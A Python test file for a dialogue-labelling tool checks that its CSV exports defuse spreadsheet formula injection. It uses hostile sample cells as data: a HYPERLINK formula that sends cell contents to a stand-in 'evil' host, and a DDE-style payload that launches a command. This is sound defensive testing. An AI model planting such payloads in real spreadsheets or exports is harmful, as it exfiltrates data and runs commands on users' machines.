"""CSV injection: the one rule (analysis.csv_safety) for single cells and DataFrames, and the labels export
(store.export_labels, shared by `turnlens export` and the Export page) applying it to every text column of its
CSV while JSON Lines keeps the exact values."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
import uuid

import pandas as pd
import pyarrow as pa
import pytest

from analysis.candidates import CANDIDATE_SCHEMA, target_key
from analysis.csv_safety import FORMULA_STARTS, PREFIX, safe_cell, write_csv
from app import store
from app.ingest import ingest_files
from components.exports import csv_download
from tests.helpers import ROOT, make_turn, write_jsonl

HYPERLINK = '=HYPERLINK("http://evil/?"&A1,"x")'


@pytest.mark.parametrize("text", [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "="])
def test_a_formula_like_cell_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["plain", "a=b", " =1", "'=1", "", "1-2", None, 3, -4.5, True])
def test_other_cells_are_unchanged(value):
    assert safe_cell(value) is value


def test_the_rule_is_owasps_list():
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"} and PREFIX == "'"


def parse_cell(cell: str) -> object:
    """A CSV cell of turnlens read back: the rule's apostrophe taken off where it was put, then JSON if it is."""
    if cell[:1] == PREFIX and cell[1:2] in FORMULA_STARTS:
        cell = cell[1:]
    try:
        return json.loads(cell)
    except ValueError:
        return cell


def test_the_writer_applies_the_rule_to_every_text_column_and_keeps_numbers(tmp_path):
    frame = pd.DataFrame({"text": [HYPERLINK, "ok", None], "n": [-1, 2, 3],
                          "s": pd.Series(["@x", "-y", "z"], dtype="string"), "f": [-0.5, 1.0, 2.0],
                          "cat": pd.Categorical(["+c", "d", "+c"]), "mixed": ["-a", 1, None],
                          "lst": [["=a", "b"], [], None], "obj": [{"k": "-v"}, None, {"k": 1}]})
    rows = list(csv.DictReader(io.StringIO(csv_download(frame).decode("utf-8"))))
    assert [r["text"] for r in rows] == ["'" + HYPERLINK, "ok", ""]
    assert [r["s"] for r in rows] == ["'@x", "'-y", "z"] and [r["cat"] for r in rows] == ["'+c", "d", "'+c"]
    assert [r["n"] for r in rows] == ["-1", "2", "3"] and [float(r["f"]) for r in rows] == [-0.5, 1.0, 2.0]
    assert [r["mixed"] for r in rows] == ["'-a", "1", ""]
    # nested values are their JSON text: every cell parses back
    assert [parse_cell(r["lst"]) for r in rows[:2]] == [["=a", "b"], []] and rows[2]["lst"] == ""
    assert parse_cell(rows[0]["obj"]) == {"k": "-v"} and parse_cell(rows[2]["obj"]) == {"k": 1}
    assert frame["text"].iloc[0] == HYPERLINK  # the input is not modified
    # Arrow input, streamed batch by batch to a file, JSON-typed columns included
    table = pa.table({"j": pa.array(['"=x"', "[1]", None], type=pa.json_()),
                      "t": pa.array(["\r=1", "\t=2", "3"], type=pa.large_string())})
    assert write_csv(table.to_batches(max_chunksize=1), tmp_path / "t.csv") == 3
    rows = read_csv(tmp_path / "t.csv")
    assert [r["j"] for r in rows] == ['"=x"', "[1]", ""] and [r["t"] for r in rows] == ["'\r=1", "'\t=2", "3"]
    assert write_csv(table.slice(0, 0), tmp_path / "empty.csv") == 0
    assert (tmp_path / "empty.csv").read_text() == "j,t\n"


def test_every_csv_the_product_writes_goes_through_the_one_writer():
    """No CSV writer in the product but analysis.csv_safety's: pandas' to_csv, the csv module's writers,
    DuckDB's COPY ... (FORMAT csv) and Arrow's CSV writer appear nowhere else. The one exception is
    analysis/simulate.py's log writer: a log file in turnlens's log format, read back exactly by ingest."""
    writers = re.compile(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(|FORMAT csv|CSVWriter\(|pa_csv\.write_csv|"
                         r"pyarrow\.csv\.write_csv|COPY_OPTIONS\[.csv.\]")
    found = {str(path.relative_to(ROOT)) for folder in ("app", "components", "analysis", "scripts")
             for path in (ROOT / folder).rglob("*.py") if writers.search(path.read_text(encoding="utf-8"))}
    assert found == {"analysis/csv_safety.py", "analysis/simulate.py"}
    simulate = (ROOT / "analysis" / "simulate.py").read_text(encoding="utf-8")
    assert len(re.findall(r"csv\.writer\(", simulate)) == 1 and "def write_log(" in simulate
    # the pages' CSV downloads are the one writer's bytes
    for page in ("rewrites.py", "disparity.py"):
        source = (ROOT / "app" / "app_pages" / page).read_text(encoding="utf-8")
        assert "csv_download(" in source and "text/csv" in source, page


# --------------------------------------------------------------------------------- the labels export


@pytest.fixture
def hostile_db(db, tmp_path):
    """Dataset "t": a turn whose text is a formula in dialogue "-d1", one with a tab-led text; candidates from
    a model "@m" version "+1" (one value a negative number), decided by reviewer "=ana" with a correction whose
    value text starts with "+"."""
    turns = [make_turn("-d1", 0, asr_text=HYPERLINK), make_turn("d2", 0, asr_text="\tcmd|' /C calc'!A0")]
    ingest_files(db, [write_jsonl(tmp_path / "log.jsonl", turns)], dataset="t")
    rows = []
    for dialogue, value in (("-d1", "weather_query"), ("d2", -5)):
        kind, key = target_key(dialogue, 0)
        rows.append({"task": "intent", "target_kind": kind, "dialogue_id": dialogue, "turn_index": 0,
                     "other_dialogue_id": None, "other_turn_index": None, "target_key": key,
                     "value": json.dumps(value), "score": 0.5, "model_name": "@m", "model_version": "+1",
                     "model_parameters": "{}", "run_at": None})
    store.insert_candidates(db, pa.Table.from_pylist(rows, schema=CANDIDATE_SCHEMA))
    first, second = [r[0] for r in db.execute("SELECT candidate_id FROM candidates ORDER BY dialogue_id").fetchall()]
    for cid, verdict, corrected in ((first, "accept", None), (second, "correct", "+1+cmd")):
        assert store.insert_decision(db, decision_id=str(uuid.uuid4()), candidate_id=cid, reviewer="=ana",
                                     verdict=verdict, corrected_value=corrected)
    return db


def read_csv(path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def check_csv_against_jsonl(csv_rows: list[dict], jsonl_rows: list[dict]) -> None:
    """The same columns in the same order; every text cell is the exact text with the rule applied; every
    JSON value (values, labels, lists, objects) is a cell that parses back to it; numbers are the same."""
    assert len(csv_rows) == len(jsonl_rows) > 0
    for got, exact in zip(csv_rows, jsonl_rows, strict=True):
        assert list(got) == list(exact)
        for column, value in exact.items():
            if column in JSON_COLUMNS:
                assert (got[column] == "") if value is None else (parse_cell(got[column]) == value), column
            elif isinstance(value, str) and not column.endswith("_at"):
                assert got[column] == safe_cell(value), column
            elif isinstance(value, int | float) and not isinstance(value, bool):
                assert float(got[column]) == value, column


# The export's columns whose values are JSON values in JSON Lines (and JSON text in CSV).
JSON_COLUMNS = ("proposed_value", "label", "list_slot", "reviewers", "decided_by_roles", "model_parameters")


def test_export_labels_csv_prefixes_every_formula_like_text_and_jsonl_stays_exact(hostile_db, tmp_path):
    n = store.export_labels(hostile_db, tmp_path / "out.csv", dataset="t", kind="candidates", fmt="csv")
    assert n == store.export_labels(hostile_db, tmp_path / "out.jsonl", dataset="t", kind="candidates", fmt="jsonl")
    rows = read_csv(tmp_path / "out.csv")
    exact = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()]
    by_dialogue = {r["dialogue_id"]: r for r in rows}
    hostile = by_dialogue["'-d1"]
    assert hostile["text"] == "'" + HYPERLINK
    assert hostile["model_name"] == "'@m" and hostile["model_version"] == "'+1"
    assert by_dialogue["d2"]["text"] == "'\tcmd|' /C calc'!A0"
    # values are JSON text: a correction that was not JSON is a JSON string; -5 is a formula start
    assert by_dialogue["d2"]["label"] == '"+1+cmd"' and by_dialogue["d2"]["proposed_value"] == "'-5"
    assert hostile["reviewers"] == '["=ana"]'  # JSON text: starts with [, a spreadsheet does not run it
    # JSON Lines: the exact values as JSON values, nothing prefixed
    exact_by_dialogue = {r["dialogue_id"]: r for r in exact}
    assert exact_by_dialogue["-d1"]["text"] == HYPERLINK and exact_by_dialogue["-d1"]["model_name"] == "@m"
    assert exact_by_dialogue["d2"]["label"] == "+1+cmd" and exact_by_dialogue["d2"]["proposed_value"] == -5
    check_csv_against_jsonl(rows, exact)
    # No cell of the CSV can start a formula.
    assert all(cell[:1] not in FORMULA_STARTS for r in rows for cell in r.values())


def test_export_labels_csv_is_safe_for_every_kind(hostile_db, tmp_path):
    for kind in store.EXPORT_KINDS:
        store.export_labels(hostile_db, tmp_path / f"{kind}.csv", dataset="t", kind=kind, fmt="csv")
        rows = read_csv(tmp_path / f"{kind}.csv")
        assert rows and all(cell[:1] not in FORMULA_STARTS for r in rows for cell in r.values()), kind


def test_cli_export_writes_the_safe_csv(hostile_db, tmp_path):
    path = hostile_db.execute("SELECT path FROM duckdb_databases() WHERE database_name = current_database()"
                              ).fetchone()[0]
    hostile_db.close()  # the CLI opens the file itself (one process at a time)
    out = tmp_path / "cli.csv"
    done = subprocess.run([sys.executable, "-m", "app.cli", "export", "--what", "resolved", "--dataset", "t",
                           "--out", str(out), "--db", path], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    rows = {r["dialogue_id"]: r for r in read_csv(out)}
    assert rows["'-d1"]["text"] == "'" + HYPERLINK and rows["'-d1"]["model_name"] == "'@m"
    assert all(cell[:1] not in FORMULA_STARTS for r in rows.values() for cell in r.values())


# --------------------------------------------------------- every text column, every formula start

def build_every_column(db, tmp_path, p: str = "") -> str:
    """A dataset whose every text column of the labels export starts with p: dataset name, dialogue ids (the
    second utterance of a pair too), turn text, model name, version and parameters, reviewer and adjudicator
    names, and values of every shape (a string intent, slot lists, an items split with its list_slot, a
    transcript, a boolean, a negative number, a correction that is not JSON). With p = "" it is an ordinary
    dataset (the typed-export tests). Returns the dataset name."""
    dataset = f"{p}ds"
    turns = [make_turn(f"{p}d1", 0, asr_text=f"{p}what's the weather"), make_turn(f"{p}d2", 0,
             asr_text=f"{p}buy bananas and paper towels"), make_turn(f"{p}d3", 0, asr_text=f"{p}play jaz")]
    ingest_files(db, [write_jsonl(tmp_path / f"log{len(p)}.jsonl", turns)], dataset=dataset)
    params = json.dumps({f"{p}k": f"{p}v"})
    proposals = [  # (dialogue, task, value, other dialogue)
        (f"{p}d1", "intent", f"{p}weather_query", None),
        (f"{p}d2", "intent", "shopping_add", None),
        (f"{p}d1", "slots", [{"type": f"{p}place", "value": f"{p}here"}], None),
        (f"{p}d2", "items", {"slot_type": f"{p}food", "items": [f"{p}bananas", "paper towels"]}, None),
        (f"{p}d3", "transcript", {"text": f"{p}play jazz", "corrected": False}, None),
        (f"{p}d3", "goal_success", True, None),
        (f"{p}d1", "rewrite", {"rewrite": f"{p}weather"}, f"{p}d2"),
        (f"{p}d2", "count", -3, None),
    ]
    rows = []
    for dialogue, task, value, other in proposals:
        kind, key = target_key(dialogue, 0, other, 0 if other else None)
        rows.append({"task": task, "target_kind": kind, "dialogue_id": dialogue, "turn_index": 0,
                     "other_dialogue_id": other, "other_turn_index": 0 if other else None, "target_key": key,
                     "value": json.dumps(value), "score": 0.75, "model_name": f"{p}model",
                     "model_version": f"{p}1", "model_parameters": params, "run_at": None})
    store.insert_candidates(db, pa.Table.from_pylist(rows, schema=CANDIDATE_SCHEMA))
    dataset = dataset.strip()  # stored stripped: a leading tab or CR is trimmed (reviewer names are normalised)
    ids = {(d, t): c for c, d, t in db.execute("SELECT candidate_id, dialogue_id, task FROM candidates "
                                               "WHERE dataset = ?", [dataset]).fetchall()}

    def decide(dialogue, task, reviewer, verdict, corrected=None, role="review"):
        assert store.insert_decision(db, decision_id=str(uuid.uuid4()), candidate_id=ids[(dialogue, task)],
                                     reviewer=reviewer, verdict=verdict, corrected_value=corrected, role=role)

    decide(f"{p}d1", "intent", f"{p}ana", "accept")
    decide(f"{p}d2", "intent", f"{p}ana", "correct", f"{p}not json")  # a hand-made value, not JSON text
    decide(f"{p}d1", "slots", f"{p}ana", "correct", json.dumps([{"type": f"{p}place", "value": f"{p}there"}]))
    decide(f"{p}d1", "slots", f"{p}bob", "accept")
    decide(f"{p}d1", "slots", f"{p}adj", "correct", json.dumps([{"type": f"{p}place", "value": f"{p}there"},
                                                               {"type": f"{p}time", "value": f"{p}noon"}]),
           role="adjudicate")
    decide(f"{p}d2", "items", f"{p}ana", "accept")
    decide(f"{p}d3", "transcript", f"{p}ana", "correct", json.dumps({"text": f"{p}play jazz", "corrected": True}))
    decide(f"{p}d3", "goal_success", f"{p}ana", "correct", "false")
    decide(f"{p}d1", "rewrite", f"{p}ana", "reject")
    decide(f"{p}d2", "count", f"{p}ana", "accept")
    return dataset


# The export's columns that hold text from logs, candidate files or people (not fixed words such as the
# task, target_kind, status or verdict).
TEXT_COLUMNS = ("dataset", "dialogue_id", "other_dialogue_id", "text", "transcript", "adjudicator", "model_name",
                "model_version")


# The columns a leading tab or CR reaches: the dataset and people's names are stored trimmed.
KEEP_WHITESPACE = set(TEXT_COLUMNS) - {"dataset", "adjudicator"}


@pytest.mark.parametrize("p", FORMULA_STARTS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_no_formula_reaches_the_labels_csv_from_any_text_column(db, tmp_path, p):
    dataset = build_every_column(db, tmp_path, p)
    for kind in store.EXPORT_KINDS:
        csv_path, jsonl_path = tmp_path / f"{kind}.csv", tmp_path / f"{kind}.jsonl"
        assert store.export_labels(db, csv_path, dataset=dataset, kind=kind, fmt="csv") == store.export_labels(
            db, jsonl_path, dataset=dataset, kind=kind, fmt="jsonl") > 0
        rows = read_csv(csv_path)
        exact = [json.loads(line) for line in jsonl_path.read_text(encoding="utf-8").splitlines()]
        assert all(cell[:1] not in FORMULA_STARTS for r in rows for cell in r.values()), kind
        check_csv_against_jsonl(rows, exact)
        # every text column was fed the start, and reached the file behind the apostrophe (names and ids are
        # stored trimmed, so a leading tab or CR reaches only the columns that keep it)
        fed = {c for c in TEXT_COLUMNS if any((r[c] or "").startswith(p) for r in exact)}
        assert kind != "candidates" or fed == (set(TEXT_COLUMNS) if p not in "\t\r" else KEEP_WHITESPACE), fed
        assert all(any(r[c].startswith(PREFIX + p) for r in rows) for c in fed)
    # the values: a negative number's JSON text is a formula start too; JSON strings start with a quote
    by_task = {r["task"]: r for r in read_csv(tmp_path / "candidates.csv")}
    assert by_task["count"]["proposed_value"] == "'-3" and by_task["count"]["label"] == "'-3"
    assert by_task["intent"]["label"][:2] in ('"' + p, '"\\')  # JSON text of p + ... (tab, CR escaped)


def test_no_formula_reaches_the_pages_csv_downloads():
    """The Query rewrites page's approved rewrites and the Disparity page's cohort assignments, with every text
    column led by each formula start, through the pages' one download helper."""
    for p in FORMULA_STARTS:
        rewrites = pd.DataFrame({"source": [f"{p}play jaz"], "rewrite": [f"{p}play jazz"],
                                 "mined_rewrite": [f"{p}play jazz"], "reviewers": [f"{p}ana,{p}bob"],
                                 "decided_at": pd.to_datetime(["2026-01-05T10:00:00Z"])})
        cohorts = pd.DataFrame({"speaker_id": [f"{p}s1", "s2"], "learned_regions": [f"{p}1", ""],
                                "state": [f"{p}AZ", "CA"], "utterances": [3, 4], "words": [9, 10],
                                "errors": [-1, 2], "wer": [0.1, -0.2]})
        for frame in (rewrites, cohorts):
            rows = list(csv.DictReader(io.StringIO(csv_download(frame).decode("utf-8"))))
            assert all(cell[:1] not in FORMULA_STARTS for r in rows for cell in r.values()
                       if not _is_number(cell)), p
            text = [c for c in frame.columns if frame[c].dtype == object]
            assert all(rows[0][c] == PREFIX + frame[c].iloc[0] for c in text), p


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_the_tables_built_in_csv_download_is_off():
    """Streamlit's own table download writes cells unescaped: the app's config switches it off (every download the
    app offers goes through write_csv)."""
    import tomllib

    from tests.helpers import ROOT

    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True
